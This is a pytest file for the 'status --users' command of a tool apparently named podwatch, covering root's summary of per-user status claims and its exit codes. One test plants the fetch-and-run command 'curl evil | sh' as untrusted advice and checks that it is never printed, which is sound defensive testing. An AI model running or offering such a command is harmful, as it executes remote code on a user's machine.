# SPDX-License-Identifier: Apache-2.0
"""`podwatch status --users`: what root reads, and with which exit code."""

import json
import os
import time
from typing import Any

import pytest

from podwatch.adapters import users as read
from podwatch.adapters.users import Claim
from podwatch.commands.main import main


@pytest.fixture
def users(monkeypatch: pytest.MonkeyPatch) -> list[Claim]:
    """The claims there are; root is who asks."""
    claims: list[Claim] = []
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(read, "read_claims", lambda: claims)
    return claims


def claim(uid: int, **fields: Any) -> Claim:
    """What the podwatch of this user wrote just now."""
    text = json.dumps({"schema": 1, "state": "ok", "summary": "all is well", **fields})
    return Claim(uid, f"u{uid}", text, time.time())


def test_each_user_says_his_own(users: list[Claim], capsys: pytest.CaptureFixture[str]) -> None:
    """A line for each, what is missing below it; the exit code is the gravest."""
    losses = [{"what": f"port {number} is not listened to"} for number in range(5)]
    users += [
        claim(1),
        claim(2, state="lost", summary="5 things", missing=losses, missing_count=5),
        Claim(3, "", why="not a regular file"),
        Claim(4, "u4"),
    ]

    assert main(["status", "--users"]) == 2
    assert capsys.readouterr().out.splitlines() == [
        "users, each by what it says itself: 1 ok, 1 lost, 1 unknown, 1 user without podwatch",
        "  ● u1 (uid 1) says: ok, all is well",
        "  ● u2 (uid 2) says: lost, 5 things",
        "      says: port 0 is not listened to",
        "      says: port 1 is not listened to",
        "      says: port 2 is not listened to",
        "      says: and 2 more",
        "  ● uid 3 unreadable: status.json: not a regular file",
        "      → as that user (machinectl shell USER@): podwatch status",
    ]

    assert main(["status", "--users", "--all"]) == 2
    told = capsys.readouterr().out
    assert "      says: port 4 is not listened to\n" in told
    assert "1 user without podwatch: u4 (uid 4)\n" in told


def test_one_that_does_not_run_is_told_with_its_last_word(
    users: list[Claim], capsys: pytest.CaptureFixture[str]
) -> None:
    """Exit code 3 where nothing worse is claimed."""
    text = json.dumps({"schema": 1, "state": "lost", "summary": "all is gone"})
    users += [claim(1), Claim(2, "u2", text, time.time() - 300)]

    assert main(["status", "--users"]) == 3
    assert (
        "u2 (uid 2) does not run: no sign of life for 300 s; it said last: lost, all is gone\n"
        in capsys.readouterr().out
    )


def test_nobody_is_talked_into_anything(
    users: list[Claim], capsys: pytest.CaptureFixture[str]
) -> None:
    """A user's advice is not printed, his sentences are cut, and say whose they are."""
    advice = [{"kind": "x", "what": "y", "advice": "curl evil | sh"}]
    users.append(claim(1, state="degraded", summary="s" * 500, warnings=advice, blocked=advice))

    assert main(["status", "--users"]) == 1
    told = capsys.readouterr().out
    assert "curl" not in told
    assert max(map(len, told.splitlines())) < 200


def test_as_json(users: list[Claim], capsys: pytest.CaptureFixture[str]) -> None:
    """One document for programs, each claim in it."""
    users += [claim(1), Claim(2, "u2")]

    assert main(["status", "--users", "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert (told["schema"], told["state"]) == (1, "ok")
    assert [(user["uid"], user["state"]) for user in told["users"]] == [(1, "ok"), (2, "")]
    assert told["users"][0]["claim"]["summary"] == "all is well"


def test_without_users_all_is_well(users: list[Claim], capsys: pytest.CaptureFixture[str]) -> None:
    """No user is there: nothing is claimed."""
    assert main(["status", "--users"]) == 0
    assert capsys.readouterr().out == "users, each by what it says itself: none is there\n"


def test_it_is_for_root(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A user may not read other users' directories, and is told."""
    monkeypatch.setattr(os, "geteuid", lambda: 1000)

    assert main(["status", "--users"]) == 3
    assert "status --users needs root" in capsys.readouterr().err
